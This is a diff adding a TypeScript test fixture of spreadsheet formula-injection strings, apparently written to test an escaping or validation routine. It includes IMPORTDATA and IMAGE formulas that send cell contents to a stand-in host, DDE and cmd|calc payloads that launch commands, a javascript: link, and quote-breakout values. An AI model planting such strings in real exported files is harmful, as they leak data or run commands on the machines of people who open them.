@@ -1,0 +1,71 @@
+/**
+ * Texts that a spreadsheet would take for a formula, or that a program would which opens what has been copied or
+ * saved from it. Written for these tests: each call with each way to begin it, and what is known beside that.
+ */
+const calls = [
+  '1+1',
+  'IMPORTXML("https://zq.example/","//a")',
+  'IMPORTDATA("https://zq.example/?"&A1)',
+  'IMPORTHTML("https://zq.example/","table",1)',
+  'IMPORTFEED("https://zq.example/")',
+  'IMPORTRANGE("https://zq.example/","A1:Z99")',
+  'IMAGE("https://zq.example/i.png?"&B2)',
+  'HYPERLINK("https://zq.example/?"&A2,"Öppna protokollet")',
+  'HYPERLINK("javascript:zq()";"zq")',
+  'WEBSERVICE("https://zq.example/")',
+  "cmd|' /C calc'!A0",
+  'DDE("cmd";"/C calc";"zq")',
+  'GOOGLETRANSLATE(A1)',
+  'ARRAYFORMULA(A1:Z)',
+  'QUERY(Inställningar!A:Z)',
+];
+const beginnings = ['=', '+', '-', '@', '\uff1d', ' =', '="', "'="];
+
+const others = [
+  '=',
+  '==1+1',
+  '=\u200bIMPORTDATA("https://zq.example/")',
+  '\u200b=IMPORTDATA("https://zq.example/")',
+  '\ufeff=1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\r\n=IMPORTXML("https://zq.example/","//a")',
+  'Kemi\n=1+1',
+  'Kemi\t=1+1',
+  '"=1+1"',
+  '";=1+1',
+  '","=HYPERLINK(""https://zq.example/"")","',
+  '=HYPERLINK("https://docs.google.com/document/d/"&A1,"zq")&IMPORTDATA("https://zq.example/")',
+  '")&IMPORTDATA("https://zq.example/")&("',
+  '=A1',
+  '=R1C1',
+  '=Översikt!A1',
+  '=SUM(1;2)',
+  '=+-@1',
+  '-2+3',
+  '+46701234567',
+  '@SUM(1+1)*cmd|calc',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff20SUM(1)',
+  '=LAMBDA(x;x)(1)',
+  '=TRUE',
+  'TRUE',
+  '1/2',
+  '2025-11-20',
+  '1e9',
+  '50 %',
+  '01234',
+  '#REF!',
+  '{=1+1}',
+  '%0A=1+1',
+  '<table><tr><td>=1+1</td></tr></table>',
+];
+
+export const formulas: readonly string[] = [
+  ...calls.flatMap((call) => beginnings.map((beginning) => beginning + call)),
+  ...others,
+];
